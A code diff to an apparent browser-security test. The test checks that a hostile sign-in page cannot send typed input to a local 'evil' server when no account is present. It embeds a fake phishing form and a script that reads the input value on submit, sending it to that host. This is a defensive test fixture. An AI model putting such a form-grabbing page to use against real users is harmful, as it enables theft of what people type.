@@ -124,12 +124,13 @@ describe('by hand', () => {
   });
 
   test('without an account it sends nothing of what is typed, and says who looked at it: nobody', async () => {
-    let calls = 0;
+    // Chromium may open a connection for a form before it asks the policy; what counts is that nothing is said on it.
+    let said = '';
     const outside = net.createServer((socket) => {
-      calls += 1;
-      socket.destroy();
+      socket.unref().on('error', () => {}).on('data', (bytes) => (said += bytes));
     });
     await new Promise((resolve) => outside.listen(0, '127.0.0.1', resolve));
+    outside.unref();
     const evil = `http://127.0.0.1:${outside.address().port}`;
     const hostile = `<!doctype html><title>Sign in</title><p>${WORDS}</p><form action="${evil}/form"><input name="word"><button>Send</button></form>
       <script>document.querySelector('form').addEventListener('submit', () => { const word = document.querySelector('input').value;
@@ -140,10 +141,11 @@ describe('by hand', () => {
     const page = await open(site.url + FRAGMENT);
     await shown(page, WORDS);
     await page.locator('input[name=word]').fill('typed');
-    await page.getByRole('button', { name: 'Send' }).click();
+    // Not waited for: the browser announces a navigation that the policy then ends.
+    await page.getByRole('button', { name: 'Send' }).click({ noWaitAfter: true });
     await page.waitForFunction(() => document.body.dataset.tried === 'yes');
     await sleep(500);
-    assert.equal(calls, 0, 'nothing left');
+    assert.equal(said, '', 'nothing left');
     assert.ok(page.url().endsWith(FRAGMENT), 'it is still there');
     assert.ok(await page.locator('[popover]').count(), 'the notice is over it');
     outside.close();
